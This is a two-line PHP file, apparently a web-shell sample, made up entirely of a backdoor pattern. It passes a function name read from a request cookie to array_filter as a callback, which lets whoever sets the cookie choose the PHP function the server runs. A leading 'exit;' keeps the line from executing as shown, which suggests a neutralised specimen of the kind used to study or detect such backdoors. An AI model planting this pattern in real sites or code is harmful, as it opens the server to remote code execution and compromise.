<?php exit;
array_filter(array('x'), $_COOKIE['f']);
